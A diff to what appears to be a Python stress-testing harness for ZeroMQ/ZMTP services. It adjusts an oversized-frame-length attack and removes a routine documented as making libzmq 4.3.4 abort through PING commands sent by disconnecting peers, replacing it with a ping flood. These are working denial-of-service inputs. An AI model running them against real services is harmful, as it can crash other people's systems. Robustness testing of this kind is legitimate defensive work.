@@ -10,7 +10,7 @@ from crowds import Attackers
 @attack()
 def frames_of_2_to_the_63(target):
     """Frames that are announced with absurd lengths, and of which little comes."""
-    lengths = [2**63 - 1, 2**63, 2**64 - 1, 2**40, 2**31, (1 << 20) + 1]
+    lengths = [2**63 - 1, 2**62, 2**40, 2**31, (1 << 20) + 1]
     sent = 0
     for length in itertools.cycle(lengths):
         if target.is_over():
@@ -40,26 +40,23 @@ def endless_more_frames(target):
     return f"{taken >> 20} MiB"
 
 
-@attack(ends_service=("ipc", "tcp", "curve"))
-def last_words_of_pings(target):
-    """Peers that send more than is taken, pings among it, and leave: libzmq 4.3.4 aborts when it answers such a ping.
-
-    Others wait for the service to be started again, each time.
-    """
-    made = 0
+@attack()
+def flood_of_pings(target):
+    """Peers that are let in ping as fast as they are answered, and read every answer."""
+    answered = 0
     while not target.is_over():
         stranger = try_to(target.introduce)
         if stranger is None:
             target.wait(0.05)
             continue
         with stranger:
-            words = b""
-            for _ in range(200):
-                words += stranger.frames(*[b"x"] * 30) + stranger.frames(b"\x04PING\0\0", flags=zmtp.COMMAND)
-            stranger.settimeout(0.05)
-            try_to(stranger.sendall, words)
-            made += 1
-    return f"{made} peers"
+            while not target.is_over():
+                if try_to(lambda: [stranger.sendall(stranger.frames(b"\x04PING\0\0", flags=zmtp.COMMAND))]) is None:
+                    break
+                if try_to(stranger.receive_command) is None:
+                    break
+                answered += 1
+    return f"{answered} pings"
 
 
 @attack()
